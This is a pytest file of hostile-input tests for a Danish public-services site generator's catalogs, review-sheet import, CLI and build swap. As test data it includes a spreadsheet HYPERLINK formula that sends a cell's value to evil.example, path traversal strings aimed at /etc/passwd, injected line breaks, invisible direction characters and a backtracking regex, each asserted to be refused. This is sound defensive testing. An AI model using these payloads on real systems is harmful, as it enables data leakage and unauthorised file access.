"""The second battery of hostile inputs (issue 19): every case a clear error or correct output.

The cases are data in tests/badinput2.py; the ones that need a command, a build step or a
sheet have a test here, named in the battery.
"""
from __future__ import annotations

import csv
import inspect
import io
import json
import os
import re
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest

from badinput import make_copy, apply
from badinput2 import BATTERY, BEFORE, CASES2, PAYLOAD
from generator.__main__ import main
from generator.catalogs import TRANSLATIONS_DIR, load_catalog
from generator.errors import InputError, InputErrors
from generator.tables import load_tables

ROOT = Path(__file__).resolve().parent.parent


def errors_of(exc) -> list[InputError]:
    return exc.errors if isinstance(exc, InputErrors) else [exc]


def load(dirs, case):
    if case.file.startswith("translations/"):
        lang = Path(case.file).stem
        return load_catalog(lang, dirs["translations"] / f"{lang}.po")
    return load_tables(dirs["rules"], dirs["walkthroughs"])


# ------------------------------------------------------------------ the battery as data
def test_the_battery_has_every_case_of_the_review_once_with_a_test():
    assert len(BATTERY) == 96 and len({b.id for b in BATTERY}) == 96
    counts = {}
    for b in BATTERY:
        counts[b.before] = counts.get(b.before, 0) + 1
    assert counts == BEFORE
    here = {name for name, _ in inspect.getmembers(sys.modules[__name__], inspect.isfunction)}
    for b in BATTERY:
        if b.test:
            assert b.test in here, f"{b.id}: no test {b.test}"
        elif b.case is None:  # only what another issue fixes or the review found passing
            assert b.after.startswith(("NOT-OURS", "HARMLESS", "CLEAR (")), b.id
        assert not b.after.startswith(("UNCLEAR", "TRACEBACK", "SILENT-HARMFUL", "HANG", "BROKEN")), b.id


@pytest.mark.parametrize("case", CASES2, ids=[c.id for c in CASES2])
def test_battery_case_gives_file_line_and_advice_or_loads(tmp_path, case):
    dirs = make_copy(tmp_path)
    path, line = apply(case, dirs)
    if case.needle is None:
        load(dirs, case)  # correct output: it loads
        return
    with pytest.raises((InputError, InputErrors)) as exc:
        load(dirs, case)
    errors = errors_of(exc.value)
    hits = [e for e in errors if case.needle in e.message]
    assert hits, f"no error says {case.needle!r}: {[str(e) for e in errors]}"
    err = hits[0]
    assert err.path.name == path.name
    if case.marker is not None:
        assert err.line == line, str(err)
    assert err.message.rstrip(".").count(".") >= 1  # a second sentence: what to do
    assert "Traceback" not in str(exc.value) and len(str(exc.value)) < 3000


def test_w01_a_walkthrough_called_vis_has_its_own_pages(tmp_path):
    dirs = make_copy(tmp_path)
    text = (dirs["walkthroughs"] / "folkepension.yaml").read_text(encoding="utf-8")
    (dirs["walkthroughs"] / "vis.yaml").write_text(text.replace("id: folkepension\n", "id: vis\n", 1), encoding="utf-8")
    tables = load_tables(dirs["rules"], dirs["walkthroughs"])
    assert "vis" in tables.walkthroughs and "folkepension" in tables.walkthroughs


def test_y21_the_discretion_test_still_guards_modality(tmp_path):
    # modality is not rendered, so `make check` lets it pass (as designed); make test-fast catches it
    from test_law import test_discretion_is_never_stated_as_a_duty
    dirs = make_copy(tmp_path)
    rules = dirs["rules"] / "rules.yaml"
    text = rules.read_text(encoding="utf-8")
    assert "    modality: ret\n    says: Er du fritaget" in text
    rules.write_text(text.replace("    modality: ret\n    says: Er du fritaget", "    modality: kan\n    says: Er du fritaget", 1), encoding="utf-8")
    with pytest.raises(AssertionError, match="digital-post-ret"):
        test_discretion_is_never_stated_as_a_duty(load_tables(dirs["rules"], dirs["walkthroughs"]))


def test_the_first_round_neighbours_still_give_clear_errors(tmp_path):
    dirs = make_copy(tmp_path)
    areas = dirs["rules"] / "areas.yaml"
    areas.write_text(areas.read_text(encoding="utf-8").replace("    name: Folkepension\n", "    name: Folke\tpension\n", 1), encoding="utf-8")
    walk = dirs["walkthroughs"] / "folkepension.yaml"
    walk.write_text(re.sub(r"(?m)^title: .*$", "title:", walk.read_text(encoding="utf-8"), count=1), encoding="utf-8")
    with pytest.raises(InputErrors) as exc:
        load_tables(dirs["rules"], dirs["walkthroughs"])
    text = str(exc.value)
    assert "areas.yaml:" in text and "'\\t' that cannot start any token" in text
    assert "folkepension.yaml:" in text and "'title' should be string, not NoneType" in text


# ------------------------------------------------------------------ make translations and catalog writes
@pytest.mark.parametrize("damage,needle", [
    (lambda t: t.replace('msgstr "Source"\n', 'msgstr "Source\n', 1), "the closing quote is missing"),       # p06
    (lambda t: t.replace('msgstr "Source"', 'msgstr "Sourc\udce9"', 1), "this line is not UTF-8 text (byte 0xe9)"),  # p07
])
def test_make_translations_refuses_a_damaged_catalog_and_changes_none(tmp_path, damage, needle):
    from generator.catalogs import update_catalogs
    from generator.extract import build_template
    folder = tmp_path / "translations"
    shutil.copytree(TRANSLATIONS_DIR, folder)
    en = folder / "en.po"
    en.write_bytes(damage(en.read_text(encoding="utf-8")).encode("utf-8", "surrogateescape"))
    before = {p.name: p.read_bytes() for p in folder.glob("*.po")}
    with pytest.raises(InputErrors) as exc:
        update_catalogs(build_template(), ["da", "en", "ar"], folder)
    assert any(needle in e.message and e.path.name == "en.po" and e.line for e in exc.value.errors), str(exc.value)
    assert "no catalog was changed" in str(exc.value)
    assert {p.name: p.read_bytes() for p in folder.glob("*.po")} == before


def test_a_catalog_write_that_fails_leaves_the_catalog_whole(tmp_path, monkeypatch):
    from generator import atomic
    from generator.po_edit import Po
    shutil.copy(TRANSLATIONS_DIR / "en.po", tmp_path / "en.po")
    before = (tmp_path / "en.po").read_bytes()
    po = Po("en", tmp_path)
    po.set("Kilde", "Origin")

    def full(fd):
        raise OSError(27, "File too large")
    monkeypatch.setattr(atomic.os, "fsync", full)
    with pytest.raises(InputErrors) as exc:
        po.save()
    assert "en.po: cannot be written (File too large); it is unchanged" in str(exc.value)
    assert (tmp_path / "en.po").read_bytes() == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["en.po"]  # no temporary file left


# ------------------------------------------------------------------ the review sheet
def sheet_rows(lang: str, folder: Path, marks: dict) -> list[dict]:
    """Rows as `review sheet` writes them, for the msgids in `marks` ({msgid: {"ok":…, "correction":…}})."""
    from generator.review import shown_check, string_id
    catalog = load_catalog(lang, folder / f"{lang}.po")
    rows = []
    for msgid, mark in marks.items():
        shown = catalog.messages.get(msgid, "")
        rows.append({"lang": lang, "id": string_id(msgid), "check": shown_check(msgid, shown), "page": "/",
                     "danish": msgid, "translation": shown, "ok": "", "correction": "", **mark})
    return rows


def write_sheet(path: Path, rows: list[dict], delimiter=",", encoding="utf-8"):
    from generator.review import CSV_COLUMNS
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, CSV_COLUMNS, delimiter=delimiter, lineterminator="\r\n")
    writer.writeheader()
    writer.writerows(rows)
    path.write_bytes(buffer.getvalue().encode(encoding))


@pytest.fixture
def ar(tmp_path):
    shutil.copy(TRANSLATIONS_DIR / "ar.po", tmp_path / "ar.po")
    shutil.copy(TRANSLATIONS_DIR / "fa.po", tmp_path / "fa.po")
    return tmp_path


def refused(ar, rows, needle, lang="ar", reviewer="R, S, 2026-12-04"):
    from generator.review import import_marks
    before = (ar / f"{lang}.po").read_bytes()
    write_sheet(ar / "marks.csv", rows)
    with pytest.raises(InputErrors) as exc:
        import_marks(lang, ar / "marks.csv", reviewer, ar)
    assert needle in str(exc.value), str(exc.value)
    assert (ar / f"{lang}.po").read_bytes() == before  # nothing written
    assert not [p for p in ar.iterdir() if p.suffix == ".tmp"]
    return exc.value


def test_review_import_refuses_a_payload_a_formula_and_a_stale_row(ar):
    from generator.review import import_marks
    desc = "Skal du søge digitalt, eller må du søge på papir? Vejledning om obligatorisk digital selvbetjening i et enkelt sprog."
    # t03: the refresh payload as a correction of the site description
    err = refused(ar, sheet_rows("ar", ar, {desc: {"correction": PAYLOAD.replace('\\"', '"')}}), "which this text (the site's name or description")
    assert "marks.csv:2" in str(err)
    # c01: a spreadsheet formula
    refused(ar, sheet_rows("ar", ar, {"Kan jeg søge på papir?": {"correction": '=HYPERLINK("https://evil.example/?x="&A1,"انقر هنا")'}}),
            "starts with '=' like a spreadsheet formula")
    # c12, c13: an override and a control character, refused before anything is written
    refused(ar, sheet_rows("ar", ar, {"Kilde": {"correction": "المصدر\u202e"}}), "invisible direction control (U+202E)")
    refused(ar, sheet_rows("ar", ar, {"Kilde": {"correction": "المص\x01در"}}), "marks.csv:2")
    # c10: the Danish text changed and the translation went stale (fuzzy): the sheet shows it as missing
    po = (ar / "ar.po").read_text(encoding="utf-8")
    (ar / "ar.po").write_text(po.replace('msgid "Kilde"\n', '#, fuzzy\nmsgid "Kilde"\n', 1), encoding="utf-8")
    rows = sheet_rows("ar", ar, {"Kilde": {"ok": "x"}})
    assert rows[0]["translation"] == ""
    refused(ar, rows, "the sheet shows no translation here")
    # an OK on a sheet made before the translation changed
    rows = sheet_rows("ar", ar, {"Kan jeg søge på papir?": {"ok": "x"}})
    (ar / "ar.po").write_text((ar / "ar.po").read_text(encoding="utf-8").replace(
        'msgstr "هل يمكنني أن أقدّم الطلب على الورق؟"', 'msgstr "هل يمكنني التقديم على الورق؟"', 1), encoding="utf-8")
    refused(ar, rows, "is not the one this sheet showed")
    # and a good sheet still goes in
    write_sheet(ar / "marks.csv", sheet_rows("ar", ar, {"Kan jeg søge på papir?": {"ok": "x"}}))
    assert import_marks("ar", ar / "marks.csv", "R, S, 2026-12-04", ar) == (1, 0)
    assert "Kan jeg søge på papir?" in load_catalog("ar", ar / "ar.po").reviewed_ids


def test_review_import_refuses_another_languages_sheet(ar):
    err = refused(ar, sheet_rows("ar", ar, {"Kilde": {"correction": "المصدر"}}), "this row is from the ar sheet, not fa", lang="fa")
    assert "marks.csv:2" in str(err)


def test_review_import_refuses_a_reviewer_over_several_lines(ar):
    rows = sheet_rows("ar", ar, {"Kilde": {"ok": "x"}, "Kan jeg søge på papir?": {"ok": "x"}})
    refused(ar, rows, "the reviewer contains a line break", reviewer="Eve\n#, fuzzy\n#")


def test_review_import_reads_excel_sheets_and_blames_the_right_row(ar):
    from generator.review import import_marks
    rows = sheet_rows("ar", ar, {"Kilde": {"ok": "x"}})
    write_sheet(ar / "u16.csv", rows, delimiter="\t", encoding="utf-16")       # c09: Excel "Unicode text"
    assert import_marks("ar", ar / "u16.csv", "R", ar) == (1, 0)
    shutil.copy(TRANSLATIONS_DIR / "ar.po", ar / "ar.po")
    write_sheet(ar / "semi.csv", rows, delimiter=";", encoding="utf-8-sig")   # c11: Danish Excel
    assert import_marks("ar", ar / "semi.csv", "R", ar) == (1, 0)
    shutil.copy(TRANSLATIONS_DIR / "ar.po", ar / "ar.po")
    # c02: a stray quote after the id in the third line
    rows = sheet_rows("ar", ar, {"Kilde": {"ok": "x"}, "Kan jeg søge på papir?": {"ok": "x"}})
    write_sheet(ar / "marks.csv", rows)
    lines = (ar / "marks.csv").read_bytes().decode("utf-8").split("\r\n")
    head, rest = lines[2].split(",", 2)[:2], lines[2].split(",", 2)[2]
    lines[2] = ",".join(head) + ',"' + rest   # ar,<id>,"<check>,… : the quote swallows the separators after it
    (ar / "marks.csv").write_bytes("\r\n".join(lines).encode("utf-8"))
    before = (ar / "ar.po").read_bytes()
    with pytest.raises(InputErrors) as exc:
        import_marks("ar", ar / "marks.csv", "R", ar)
    assert "marks.csv:3" in str(exc.value) and "ok is" not in str(exc.value), str(exc.value)
    assert (ar / "ar.po").read_bytes() == before
    # c07: a NUL byte in a row
    write_sheet(ar / "nul.csv", [{**rows[0], "id": "abc\x00"}])
    with pytest.raises(InputErrors) as exc:
        import_marks("ar", ar / "nul.csv", "R", ar)
    assert "nul.csv:2" in str(exc.value)


def test_review_import_of_a_missing_file_is_one_line(capsys):
    assert main(["review", "import", "ar", "/nonexistent/marks.csv", "--reviewer", "R"]) == 1
    err = capsys.readouterr().err
    assert "marks.csv: the review CSV cannot be read (No such file or directory)" in err and err.count("\n") == 1


def test_the_review_sheet_neutralises_formulas_and_carries_language_and_check(tmp_path, monkeypatch):
    from generator import review
    monkeypatch.setattr(review, "strings_by_page", lambda lang: [("/", "Forside", ["=1+1", "Kilde"])])
    folder = tmp_path / "t"
    shutil.copytree(TRANSLATIONS_DIR, folder)
    monkeypatch.setattr(review, "TRANSLATIONS_DIR", folder)
    _, table, _ = review.write_sheet("ar", tmp_path / "out")
    rows = list(csv.DictReader(table.open(encoding="utf-8")))
    assert rows[0]["danish"] == "'=1+1" and rows[1]["lang"] == "ar"
    assert rows[1]["check"] == review.shown_check("Kilde", "المصدر")


# ------------------------------------------------------------------ CLI
@pytest.mark.parametrize("facts,needle", [
    ('{"lives_abroad": true, "lives_abroad": false, "complaint_pending": false}', "the fact 'lives_abroad' is given twice"),  # d01
    ('{"lives_abroad": NaN}', "must be true or false"),                                              # d02
    ('{"lives_abroad": "false"}', "must be true or false"),                                          # d03
    ('{"lives_abroad": 1' + "0" * 5000 + "}", "a number with thousands of digits"),                 # d07
    ("{" + ", ".join(f'"k{i}": true' for i in range(9000)) + "}", "unknown fact 'k0'"),             # d06
])
def test_decide_refuses_duplicate_facts_and_huge_numbers(capsys, facts, needle):
    assert main(["decide", "--area", "folkepension", "--facts", facts]) == 2
    err = capsys.readouterr().err
    assert needle in err and err.count("\n") == 1 and len(err) < 400, err


def test_decide_with_odd_areas_and_facts_that_do_not_apply(capsys):
    # d04, d05: odd areas; d08: facts that do not apply are ignored as designed
    assert main(["decide", "--area", "folkepension", "--facts", '{"lives_abroad": false, "complaint_pending": false, '
                 '"digital_post_exempt": false, "special_circumstances": false, "urgent": true}']) == 0
    capsys.readouterr()
    assert main(["decide", "--area", "folkepension/../../etc/passwd"]) == 2
    assert "unknown area" in capsys.readouterr().err
    assert main(["decide", "--area", "folke\udcffpension"]) == 2
    assert "unknown area" in capsys.readouterr().err


def test_graph_out_naming_a_file_is_one_line(tmp_path, capsys):
    target = tmp_path / "README.md"
    target.write_text("keep")
    assert main(["graph", "--out", str(target)]) == 2
    err = capsys.readouterr().err
    assert "is a file; name a folder" in err and err.count("\n") == 1 and target.read_text() == "keep"
    assert main(["review", "sheet", "../../etc"]) == 2                                              # g02
    assert "no catalog for '../../etc'" in capsys.readouterr().err


def test_make_build_says_when_only_one_language_was_built():
    out = subprocess.run(["make", "-n", "build", "ONLY=en"], cwd=ROOT, capture_output=True, text=True).stdout
    assert "ONLY=en is set, so site/ holds that language only" in out


def test_a_stale_results_file_is_one_line_not_a_traceback(tmp_path):
    from generator.statement import load_results
    path = tmp_path / "a11y-results.json"
    path.write_text(json.dumps({"date": "2026-13-45", "checks": {}}))
    with pytest.raises(InputError) as exc:
        load_results(path)
    assert "stale or damaged: 'date' is '2026-13-45'" in str(exc.value)
    path.write_text(json.dumps({"date": "2026-12-01T10:00:00+00:00", "checks": {}, "tools": {}, "commit": None}))
    with pytest.raises(InputError) as exc:
        load_results(path)
    assert "'all_passed' is missing" in str(exc.value)
    path.write_text(json.dumps({"date": "2026-12-01T10:00:00+00:00", "checks": {"axe": {"tests": 1}}, "tools": {},
                                "commit": None, "all_passed": True}))
    with pytest.raises(InputError) as exc:
        load_results(path)
    assert "'axe.passed' is missing" in str(exc.value)


def test_a_glossary_pattern_cannot_hang(tmp_path):
    from generator.glossary import GLOSSARY_DIR, compile_match, load_glossary
    text = (GLOSSARY_DIR / "en.csv").read_text(encoding="utf-8")
    rows = list(csv.reader(io.StringIO(text)))
    row = next(i for i, r in enumerate(rows) if r[0] == "kommune")
    rows[row][2] = r"(\w+\s?)+;$"
    with (tmp_path / "en.csv").open("w", encoding="utf-8", newline="") as f:
        csv.writer(f, lineterminator="\n").writerows(rows)
    with pytest.raises(InputErrors) as exc:
        load_glossary("en", tmp_path)
    assert f"en.csv:{row + 1}: the form" in str(exc.value) and "no other regular-expression signs" in str(exc.value)
    # the forms the glossaries use still work, as words
    assert compile_match(r"rent\S* seniorsk|odwoł").search("renty seniorskiej")
    assert not compile_match("a.b").search("axb")


# ------------------------------------------------------------------ builds
SLOW_BUILD = """
import os, pathlib, subprocess, sys, time
p = pathlib.Path('site.new'); p.mkdir()
child = subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(600)'])
pathlib.Path('pids').write_text(f'{os.getpid()} {child.pid}')
for i in range(6000):
    (p / f'{i}.html').write_text('half'); time.sleep(0.1)
"""


def alive(pid: int) -> bool:
    try:
        os.kill(pid, 0)
    except ProcessLookupError:
        return False
    try:  # a zombie waiting for its parent is not running
        return (Path(f"/proc/{pid}/stat").read_text().split(")")[-1].split()[0]) != "Z"
    except OSError:
        return False


def wait_for(path: Path):
    for _ in range(600):
        if path.exists() and path.read_text().strip():
            return path.read_text().split()
        time.sleep(0.05)
    raise AssertionError(f"{path} never appeared")


def gone(pids) -> bool:
    for _ in range(400):
        if not any(alive(int(p)) for p in pids):
            return True
        time.sleep(0.05)
    return False


def start_swap(tmp_path, script=SLOW_BUILD, **kwargs):
    (tmp_path / "site").mkdir(exist_ok=True)
    (tmp_path / "site" / "index.html").write_text("old")
    return subprocess.Popen([sys.executable, "-m", "generator.swap", "site", "--", sys.executable, "-c", script],
                            cwd=tmp_path, env={**os.environ, "PYTHONPATH": str(ROOT)}, stderr=subprocess.PIPE, text=True, **kwargs)


@pytest.mark.parametrize("sig,words", [(signal.SIGTERM, "stopped (SIGTERM)"), (signal.SIGINT, "interrupted")])
def test_a_signal_stops_the_whole_build_and_leaves_site_unchanged(tmp_path, sig, words):
    swap = start_swap(tmp_path)
    pids = wait_for(tmp_path / "pids")
    swap.send_signal(sig)
    _, err = swap.communicate(timeout=60)
    assert words in err and "site/ is unchanged" in err and "Traceback" not in err
    assert gone(pids), "the build command or its child still runs"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["pids", "site"]
    assert (tmp_path / "site" / "index.html").read_text() == "old"


def test_the_build_stops_when_its_parent_dies(tmp_path):
    # make killed alone (b03): the parent of generator.swap dies; swap and the build must stop
    parent = subprocess.Popen(["/bin/sh", "-c", f"cd {tmp_path} && PYTHONPATH={ROOT} {sys.executable} -m generator.swap site -- "
                               f"{sys.executable} -c \"$SCRIPT\" & wait"], env={**os.environ, "SCRIPT": SLOW_BUILD})
    (tmp_path / "site").mkdir()
    (tmp_path / "site" / "index.html").write_text("old")
    pids = wait_for(tmp_path / "pids")
    parent.kill()
    parent.wait()
    assert gone(pids), "the build went on after its parent died"
    for _ in range(200):
        if not (tmp_path / "site.new").exists():
            break
        time.sleep(0.05)
    assert not (tmp_path / "site.new").exists() and (tmp_path / "site" / "index.html").read_text() == "old"


def test_a_second_build_in_the_same_checkout_stops_with_a_message(tmp_path, capsys):
    from generator.swap import build_and_swap, lock_checkout
    (tmp_path / "site").mkdir()
    (tmp_path / "site" / "index.html").write_text("old")
    held = lock_checkout(tmp_path)
    try:
        code = build_and_swap(tmp_path / "site", [sys.executable, "-c", "import pathlib; pathlib.Path('ran').touch()"])
    finally:
        os.close(held)
    assert code == 1 and "another build is running in this checkout" in capsys.readouterr().err
    assert not (tmp_path / "ran").exists() and (tmp_path / "site" / "index.html").read_text() == "old"


def test_when_site_cannot_be_replaced_the_new_build_is_kept_where_the_message_says(tmp_path, monkeypatch, capsys):
    from generator import swap
    monkeypatch.chdir(tmp_path)
    (tmp_path / "site").mkdir()
    real_rename = os.rename

    def rename(src, dst):
        if Path(src).name == "site":
            raise PermissionError(1, "Operation not permitted")
        real_rename(src, dst)
    monkeypatch.setattr(swap.os, "rename", rename)
    script = "import pathlib; p = pathlib.Path('site.new'); p.mkdir(); (p / 'index.html').write_text('new')"
    assert swap.build_and_swap(Path("site"), [sys.executable, "-c", script]) == 1
    assert "The new build is in site.new" in capsys.readouterr().err
    assert (tmp_path / "site.new" / "index.html").read_text() == "new"


def test_a_symlinked_site_is_updated_where_it_points(tmp_path, monkeypatch):
    from generator.swap import build_and_swap
    www = tmp_path / "srv" / "www"
    www.mkdir(parents=True)
    (www / "index.html").write_text("old")
    checkout = tmp_path / "checkout"
    checkout.mkdir()
    (checkout / "site").symlink_to(www)
    monkeypatch.chdir(checkout)
    script = "import pathlib; p = pathlib.Path('site.new'); p.mkdir(); (p / 'index.html').write_text('new')"
    assert build_and_swap(Path("site"), [sys.executable, "-c", script]) == 0
    assert (checkout / "site").is_symlink() and (checkout / "site").resolve() == www.resolve()
    assert (www / "index.html").read_text() == "new"
    assert sorted(p.name for p in checkout.iterdir()) == ["site"]
    assert sorted(p.name for p in www.parent.iterdir()) == ["www"]


def test_a_full_disk_in_the_build_is_one_line(capsys):
    from generator import hooks
    hooks._one_line_os_error(OSError, OSError(27, "File too large", "docs/.da.new/index.md"), None)
    err = capsys.readouterr().err
    assert err.startswith("error: docs/.da.new/index.md: File too large") and err.count("\n") == 1


def test_a_glossary_row_with_a_direction_mark_is_refused(tmp_path):
    # not in the battery: the glossary is catalog text too (issue 19, invisible characters)
    from generator.glossary import GLOSSARY_DIR, load_glossary
    text = (GLOSSARY_DIR / "ar.csv").read_text(encoding="utf-8")
    assert ",البلدية," in text.split("\n")[1]
    (tmp_path / "ar.csv").write_text(text.replace(",البلدية,", ",البل\u200fدية,", 1), encoding="utf-8")
    with pytest.raises(InputErrors) as exc:
        load_glossary("ar", tmp_path)
    assert "ar.csv:2: this row contains an invisible character (U+200F, right-to-left mark)" in str(exc.value)


def test_the_attribute_msgids_are_the_theme_texts():
    from generator import theme_text
    from generator.catalogs import ATTRIBUTE_MSGIDS
    assert ATTRIBUTE_MSGIDS == {theme_text.SITE_NAME, theme_text.SITE_DESCRIPTION}
